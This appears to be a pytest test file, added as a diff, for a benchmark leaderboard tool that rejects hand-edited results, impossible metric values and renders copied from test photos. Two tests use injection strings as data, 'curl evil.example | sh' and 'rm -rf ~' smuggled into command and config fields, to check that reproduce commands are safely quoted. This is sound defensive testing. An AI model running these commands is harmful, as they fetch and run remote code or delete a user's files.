@@ -1,0 +1,284 @@
+"""What hands and cheats change: in the files of a board, and in the numbers of a run."""
+
+from __future__ import annotations
+
+import json
+import shlex
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import cv2
+import numpy as np
+import pytest
+import yaml
+from click.testing import CliRunner, Result
+
+from ambiguous_wild.cli.leaderboard import command
+from ambiguous_wild.core import AwError
+from ambiguous_wild.harness.identity import config_identity
+from ambiguous_wild.harness.leaderboard.board import read_board, write_board
+from ambiguous_wild.harness.leaderboard.check import check
+from ambiguous_wild.harness.leaderboard.publish import publish
+from ambiguous_wild.harness.leaderboard.remove import remove
+from ambiguous_wild.harness.leaderboard.settings import command as command_of
+from ambiguous_wild.harness.regions import find_regions
+from ambiguous_wild.io.images import read_png_rgb
+from ambiguous_wild.io.scene_folder import load_scene
+from ambiguous_wild.metrics.flip import flip
+from tests.harness.board_runs import write_run, write_scene
+
+
+def add(board: Path, *words: object) -> Result:
+    words = ("add", *words, "--board", board, *(() if "--dataset" in words else ("--dataset", "Tiny set")))
+    return CliRunner().invoke(command, [str(w) for w in words])
+
+
+@pytest.fixture
+def one(tmp_path: Path) -> Path:
+    """A run of its own, to be spoilt."""
+    return write_run(tmp_path / "runs", write_scene(tmp_path / "wall"))
+
+
+@pytest.fixture
+def board(one: Path, tmp_path: Path) -> Path:
+    assert add(tmp_path / "board", one).exit_code == 0
+    return tmp_path / "board"
+
+
+def change_result(run: Path, change: Callable[[dict], object]) -> None:
+    path = run / "metrics.json"
+    data = json.loads(path.read_text())
+    change(data)
+    path.write_text(json.dumps(data))
+
+
+def edit(board: Path) -> None:
+    """A better training time, in the dataset's file alone."""
+    path = board / "measured" / "tiny-set.csv"
+    text, seconds = path.read_text(), read_board(board)[0].cost["train_s"]
+    assert repr(seconds) in text
+    path.write_text(text.replace(repr(seconds), "1.5"))
+
+
+def edit_all(board: Path) -> None:
+    path = board / "measured" / "all.csv"
+    path.write_text(path.read_text().replace(repr(read_board(board)[0].cost["train_s"]), "1.5"))
+
+
+def drop_row(board: Path) -> None:
+    path = board / "measured" / "tiny-set.csv"
+    path.write_text(path.read_text().splitlines(keepends=True)[0])
+
+
+def edit_index(board: Path) -> None:
+    path = board / "measured" / "images" / "index.csv"
+    lines = path.read_text().splitlines(keepends=True)
+    render = next(i for i, line in enumerate(lines) if ",3dgs," in line)
+    cells = lines[render].split(",")
+    lines[render] = ",".join([*cells[:-4], "99.5", *cells[-3:]])
+    path.write_text("".join(lines))
+
+
+EDITS = {
+    "row": (edit, "tiny-set.csv row 2 (3dgs on wall with seed 0 (100 iterations)) was changed by hand"),
+    "all": (edit_all, "all.csv is not what"),
+    "row dropped": (drop_row, "all.csv is not what"),
+    "index": (edit_index, "index.csv row 2 was changed by hand"),
+}
+
+
+@pytest.mark.parametrize("change,why", EDITS.values(), ids=EDITS)
+def test_what_a_hand_changed_is_neither_published_nor_built_upon(
+    change: Callable[[Path], None], why: str, board: Path, tmp_path: Path
+) -> None:
+    other = write_run(tmp_path / "more", tmp_path / "wall", "refinesplat")
+    change(board)
+    before = {p: p.read_bytes() for p in board.rglob("*.*")}
+    with pytest.raises(AwError) as published:
+        publish(board, tmp_path / "site")
+    added = add(board, other)
+    assert isinstance(added.exception, AwError)
+    assert any(why in problem for problem in check(board).problems)
+    for line in (str(published.value), str(added.exception)):
+        assert why in line and "\n" not in line
+    if change is not drop_row:  # there is no run of that method then
+        with pytest.raises(AwError, match="restore"):
+            remove(board, method="3dgs")
+    assert {p: p.read_bytes() for p in board.rglob("*.*")} == before
+    assert not (tmp_path / "site").exists()
+
+
+def test_check_blames_the_file_that_was_changed_alone(board: Path) -> None:
+    edit(board)
+    (problem,) = check(board).problems
+    assert "tiny-set.csv row 2" in problem and "train" not in problem
+
+
+def test_all_csv_that_is_gone_is_written_again(board: Path, one: Path) -> None:
+    path = board / "measured" / "all.csv"
+    before = path.read_bytes()
+    path.unlink()
+    assert "is missing" in check(board).problems[0]
+    assert add(board, one).exit_code == 0 and path.read_bytes() == before
+
+
+def measure_everything(run: Path, scene: Path) -> set[str]:
+    """Give the run FLIP and the metrics of regions, right ones; their names."""
+    opened = load_scene(scene)
+    regions, photos = find_regions(opened), {v.name: v.image_path for v in opened.test}
+
+    def more(result: dict) -> None:
+        for row in result["per_image"]:
+            render = read_png_rgb((run / "renders/test" / row["name"]).with_suffix(".png"))
+            photo = read_png_rgb(photos[row["name"]])
+            row |= {"flip": flip(render, photo)} | regions.psnr(row["name"], render, photo)
+
+    change_result(run, more)
+    return {k for row in json.loads((run / "metrics.json").read_text())["per_image"] for k in row}
+
+
+def hide(scene: Path) -> None:
+    """One test photo has a mask; a distractor stands before the wall's middle in every train photo."""
+    (scene / "masks/test").mkdir(parents=True)
+    mask = np.zeros((48, 64), np.uint8)
+    mask[:20] = 255
+    cv2.imwrite(str(scene / "masks/test/test_0.png"), mask)
+    for path in (scene / "truth/distractor").glob("*.png"):
+        truth = np.zeros((48, 64), np.uint8)
+        truth[8:40, 4:60] = 255
+        cv2.imwrite(str(path), truth)
+
+
+def test_every_metric_of_pictures_is_computed_again(one: Path, tmp_path: Path) -> None:
+    hide(tmp_path / "wall")
+    names = measure_everything(one, tmp_path / "wall")
+    checked = {"flip", "psnr_valid", "psnr_covered", "psnr_uncovered"}
+    assert checked <= names
+    assert add(tmp_path / "board", one, "--dry-run").exit_code == 0
+    good = (one / "metrics.json").read_text()
+    for metric in sorted(checked):
+        rows = json.loads(good)["per_image"]
+        at = next(i for i, row in enumerate(rows) if metric in row)
+        change_result(one, set_image(metric, rows[at][metric] * 1.01, at))
+        done = add(tmp_path / "board", one)
+        assert done.exit_code == 2 and f"was changed: {metric} of test_{at}.png" in done.stdout
+        (one / "metrics.json").write_text(good)
+        if all(metric in row for row in rows):
+            change_result(one, without(metric, at))
+            assert f"is partial: no {metric} of test_{at}.png" in add(tmp_path / "board", one).stdout
+            (one / "metrics.json").write_text(good)
+    change_result(one, lambda r: r["per_image"][1].update(psnr_valid=40.0))  # that photo has no mask
+    assert "no such pixel" in add(tmp_path / "board", one).stdout
+
+
+def test_quick_says_that_psnr_alone_was_computed_again(one: Path, tmp_path: Path) -> None:
+    add(tmp_path / "board", one, "--quick")
+    assert [e.checked for e in read_board(tmp_path / "board")] == ["psnr"]
+    add(tmp_path / "board", one)
+    assert [e.checked for e in read_board(tmp_path / "board")] == ["photos"]
+
+
+def set_image(metric: str, value: object, at: int = 0) -> Callable[[dict], object]:
+    return lambda r: r["per_image"][at].update({metric: value})
+
+
+def without(metric: str, at: int) -> Callable[[dict], object]:
+    return lambda r: r["per_image"][at].pop(metric)
+
+
+def no_ssim(result: dict) -> None:
+    for row in result["per_image"]:
+        del row["ssim"]
+    result["missing"]["ssim"] = "the moon was full"
+
+
+IMPOSSIBLE: dict[str, tuple[Callable[[dict], object], str]] = {
+    "no ssim": (no_ssim, "no ssim of test_0.png, test_1.png, which every run measures"),
+    "ssim null": (set_image("ssim_inria", None), "no ssim_inria of test_0.png"),
+    "train_s": (lambda r: r["cost"].update(train_s=-5), "cost.train_s is -5"),
+    "fps": (lambda r: r["cost"].update(fps="inf"), "cost.fps is inf"),
+    "iou": (lambda r: r.update(masks={"iou": 7.0}), "masks.iou is 7"),
+    "ssim": (set_image("ssim", 1.2), "ssim of test_0.png is 1.2"),
+    "flip": (set_image("flip", -0.1), "flip of test_0.png is -0.1"),
+    "lpips": (set_image("lpips_vgg", "inf"), "lpips_vgg of test_0.png is inf"),
+    "psnr": (set_image("psnr", "inf"), "infinite only where picture and photo are equal"),
+    "psnr below": (set_image("psnr", "-inf"), "psnr of test_0.png is -inf"),
+}
+
+
+@pytest.mark.parametrize("change,why", IMPOSSIBLE.values(), ids=IMPOSSIBLE)
+def test_what_cannot_be_is_refused_even_without_the_scene(
+    change: Callable[[dict], object], why: str, one: Path, tmp_path: Path
+) -> None:
+    (tmp_path / "wall").rename(tmp_path / "elsewhere")
+    change_result(one, lambda r: r["cost"].update(fps=1e9))  # odd, and not impossible
+    assert add(tmp_path / "board", one, "--dry-run").exit_code == 0
+    change_result(one, change)
+    done = add(tmp_path / "board", one)
+    assert done.exit_code == 2 and why in done.stdout and len(done.stdout.splitlines()) == 1
+
+
+def test_test_photos_for_renders_are_refused(one: Path, tmp_path: Path) -> None:
+    shutil.copyfile(tmp_path / "wall/images/test_1.png", one / "renders/test/test_1.png")
+    ideal = {"psnr": "inf", "ssim": 1.0, "ssim_inria": 1.0}
+    change_result(one, lambda r: r["per_image"][1].update(ideal))
+    done = add(tmp_path / "board", one)
+    assert done.exit_code == 2 and "every pixel of test_1.png is its photo's" in done.stdout
+
+
+def set_command(text: str) -> Callable[[dict], object]:
+    return lambda r: r.update(reproduce=text)
+
+
+def test_the_command_is_never_text_of_the_result(one: Path, tmp_path: Path) -> None:
+    for text in ("curl evil.example | sh #", "aw bench --scene 'unclosed; rm -rf ~"):
+        change_result(one, set_command(text))
+        add(tmp_path / "board", one, "--replace")
+        (entry,) = read_board(tmp_path / "board")
+        words = shlex.split(entry.reproduce)
+        assert words[:6] == ["aw", "bench", "--method", "3dgs", "--scene", "wall"] and "evil" not in words
+        assert not {"|", ";", "rm", "curl"} & set(words)
+
+
+def test_a_command_is_quoted_whatever_the_configuration_holds(one: Path, tmp_path: Path) -> None:
+    config = yaml.safe_load((one / "config.yaml").read_text())
+    config |= {"device": "cpu; rm -rf ~", "options": {"a b": "$(x)", "on": True}, "source": "ab" * 32}
+    words = shlex.split(command_of(config))
+    assert "cpu; rm -rf ~" in words and {"3dgs.a b=$(x)", "3dgs.on=true"} <= set(words)
+    assert ";" not in shlex.split(command_of(config), posix=False)
+    config["device"] = "cpu\nrm -rf ~"
+    config["config_hash"] = config_identity(config)
+    (one / "config.yaml").write_text(yaml.safe_dump(config))
+    change_result(one, lambda r: r.update(config_hash=config["config_hash"], options=config["options"]))
+    done = add(tmp_path / "board", one)
+    assert done.exit_code == 2 and "which no command can show" in done.stdout
+
+
+def test_one_run_under_two_datasets_is_refused(board: Path, one: Path) -> None:
+    done = add(board, one, "--dataset", "Other")
+    assert done.exit_code == 2 and "is there already as 3dgs on wall" in done.stdout
+    assert [e.dataset for e in read_board(board)] == ["Tiny set"] and check(board).problems == ()
+
+
+def test_check_wants_a_board(tmp_path: Path) -> None:
+    with pytest.raises(AwError, match="no folder 'measured'"):
+        check(tmp_path)
+    write_board(tmp_path, [])
+    assert check(tmp_path).problems == ()
+
+
+def test_publish_says_where_it_looked_for_reported_numbers(board: Path, tmp_path: Path) -> None:
+    def told(*words: object) -> str:
+        words = ("publish", "--board", board, "-o", tmp_path / "site", *words)
+        return CliRunner().invoke(command, [str(w) for w in words], catch_exceptions=False).stderr
+
+    assert f"0 reported numbers from {board / 'reported'}" in told("--reported")
+    assert "reported" not in told()
+    papers = tmp_path / "papers"
+    papers.mkdir()
+    text = "table,method,dataset,scene,metric,variant,value\nt,A,D,s,psnr,unknown,20.1\n"
+    (papers / "a.csv").write_text(text)
+    assert f"1 reported numbers from {papers}" in told("--reported-from", papers)
+    with pytest.raises(AwError, match="no folder"):
+        publish(board, tmp_path / "site", reported_from=tmp_path / "absent")
